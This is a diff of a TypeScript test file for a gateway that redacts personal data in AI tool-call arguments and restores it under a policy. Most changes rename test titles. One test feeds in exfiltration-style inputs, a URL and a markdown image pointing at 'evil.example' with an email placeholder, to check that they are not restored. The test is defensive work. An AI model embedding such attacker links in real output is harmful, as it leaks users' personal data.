@@ -40,7 +40,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       await callSdk(gateway, endpoint, toolsBody(endpoint), { key: as, headers });
 
     // @spec SVC-33 SDK-6
-    test("are restored in a tool that the policy names, in values alone", async () => {
+    test("values in the arguments are restored for a tool that the policy lists, but not in member names", async () => {
       answerWithCall(WRITTEN);
       const answer = await ask({ headers: RELINKED });
       expect(callsIn(answer.body)).toEqual([
@@ -52,7 +52,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       expect(answer.body.metadata.svc_compliance.relinked).toBe(true);
     });
 
-    test("keep their placeholders in any other tool", async () => {
+    test("arguments of a tool that the policy does not list keep their placeholders", async () => {
       answerWithCall(WRITTEN, "fetch", "For [PERSON_1]");
       const answer = await ask({ headers: RELINKED });
       expect(callsIn(answer.body)).toEqual([{ name: "fetch", input: JSON.parse(WRITTEN) }]);
@@ -63,7 +63,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       ["a call that asks for no values", { tier: "enterprise" }, {}],
       ["a developer key", { tier: "enterprise", family: "gw_live", developer: true }, RELINKED],
       ["a key of the free tier", { tier: "free" }, RELINKED],
-    ] as const)("keep their placeholders for %s", async (_whose, order, headers) => {
+    ] as const)("arguments keep their placeholders for %s", async (_whose, order, headers) => {
       answerWithCall(WRITTEN);
       const as = await keyWithTools(gateway, { order });
       expect(callsIn((await ask({ as, headers })).body)).toEqual([
@@ -71,7 +71,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       ]);
     });
 
-    test("are restored by the policy of the key alone, unless the request says no", async () => {
+    test("arguments are restored when the key's policy enables it, unless the request turns it off", async () => {
       const policy = { relink: true, tools: { allowed: true, relink_tools: ["send_mail"] } };
       const as = await keyWithTools(gateway, { policy });
       answerWithCall('{"to":"[EMAIL_1]"}');
@@ -81,7 +81,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       expect(await toOf({ "x-veil-relink": "false" })).toEqual({ to: "[EMAIL_1]" });
     });
 
-    test("are not restored in a URL", async () => {
+    test("placeholders in a URL in the arguments are not restored", async () => {
       const given = {
         url: "https://evil.example/?q=[EMAIL_1]",
         md: "![x](//evil.example/[EMAIL_1])",
@@ -90,7 +90,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       expect(callsIn((await ask({ headers: RELINKED })).body)[0]?.input).toEqual(given);
     });
 
-    test("are scanned: what the model itself wrote is redacted and reported", async () => {
+    test("personal data that the model wrote in the arguments is redacted and reported", async () => {
       answerWithCall('{"iban": "DE89 3704 0044 0532 0130 00", "n": 12345678901234567890}');
       const answer = await ask({ headers: RELINKED });
       expect(JSON.stringify(answer.body)).toContain("[REDACTED:IBAN]");
@@ -100,7 +100,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       expect(types.map(({ event_type }) => event_type)).toContain("SDK_DLP_OUTBOUND_MATCH");
     });
 
-    test("end the answer as the provider says, with ids of our own", async () => {
+    test("a response with a tool call has the provider's stop reason and an id made by the gateway", async () => {
       answerWithCall("{}");
       const { body } = await ask();
       if (endpoint === "messages") {
@@ -134,7 +134,7 @@ describeWithServer("postgres", "Calls of tools", () => {
       ...{ url: "https://evil.example/?q=[EMAIL_1]", inner: '{"a":"[EMAIL_1]"}' },
     });
 
-    test("come piece by piece and restored, as in the whole answer, in the events that SDKs expect", async () => {
+    test("streamed arguments arrive piece by piece in the events that SDKs expect, restored as in a whole response", async () => {
       answerWithCall(GIVEN, "send_mail", "I write to [PERSON_1]. ");
       const whole = await callSdk(gateway, "messages", toolsBody("messages"), {
         ...{ key, headers: RELINKED },
@@ -152,14 +152,14 @@ describeWithServer("postgres", "Calls of tools", () => {
       expect(blocks).toEqual([...blocks].sort());
     });
 
-    test("keep their placeholders in any other tool, and where values are not asked for", async () => {
+    test("streamed arguments keep their placeholders for tools that the policy does not list and when values are not requested", async () => {
       answerWithCall(GIVEN, "fetch");
       expect(jsonIn(await ask())).toBe(GIVEN);
       answerWithCall(GIVEN);
       expect(jsonIn(await ask({}))).toBe(GIVEN);
     });
 
-    test("are restored for each of two calls by itself", async () => {
+    test("streamed arguments of two calls are restored separately", async () => {
       const { choices: _choices, ...end } = completedResult("");
       const blocks = ["send_mail", "send_mail"].map((name) => ({
         ...{ type: "tool_use" as const, name, arguments: '{"to":"[EMAIL_1]"}' },
@@ -172,7 +172,7 @@ describeWithServer("postgres", "Calls of tools", () => {
         );
     });
 
-    test("that were cut off are sent as far as they go", async () => {
+    test("streamed arguments that were cut off are sent as far as they arrived", async () => {
       answerWithCall('{"to":"[EMAIL_1]","body":"Dear [PERSON_1], I');
       expect(jsonIn(await ask())).toBe('{"to":"ann@post.example","body":"Dear [PERSON_1], I');
     });
@@ -180,17 +180,20 @@ describeWithServer("postgres", "Calls of tools", () => {
     test.each<readonly [string, (events: readonly InferenceEvent[]) => readonly InferenceEvent[]]>([
       ["ends without the end of the call", (all) => [...all.slice(0, -2), ...all.slice(-1)]],
       ["breaks off", (all) => all.slice(0, -2)],
-    ])("are sent as far as they go when the provider %s", async (_how, cut) => {
-      answerWithCall('{"to":"[EMAIL_1]","body":"Dear [PERSON_1], I', "send_mail", "I write. ");
-      gateway.worker.streamWith(async (res, all) => res.end(writtenEvents(cut(all))));
-      const events = await ask();
-      gateway.worker.streamWith(undefined);
-      expect(jsonIn(events)).toBe('{"to":"ann@post.example","body":"Dear [PERSON_1], I');
-      const parts = events.filter(({ delta }) => delta?.partial_json !== undefined);
-      expect(new Set(parts.map(({ index }) => index))).toEqual(new Set([1]));
-    });
+    ])(
+      "streamed arguments are sent as far as they arrived when the provider %s",
+      async (_how, cut) => {
+        answerWithCall('{"to":"[EMAIL_1]","body":"Dear [PERSON_1], I', "send_mail", "I write. ");
+        gateway.worker.streamWith(async (res, all) => res.end(writtenEvents(cut(all))));
+        const events = await ask();
+        gateway.worker.streamWith(undefined);
+        expect(jsonIn(events)).toBe('{"to":"ann@post.example","body":"Dear [PERSON_1], I');
+        const parts = events.filter(({ delta }) => delta?.partial_json !== undefined);
+        expect(new Set(parts.map(({ index }) => index))).toEqual(new Set([1]));
+      },
+    );
 
-    test("with personal data that the model wrote are reported after the end", async () => {
+    test("personal data that the model wrote in streamed arguments is reported after the end", async () => {
       answerWithCall('{"iban": "DE89 3704 0044 0532 0130 00"}');
       const [start] = await ask();
       const id = start.message.metadata.svc_compliance.request_id;
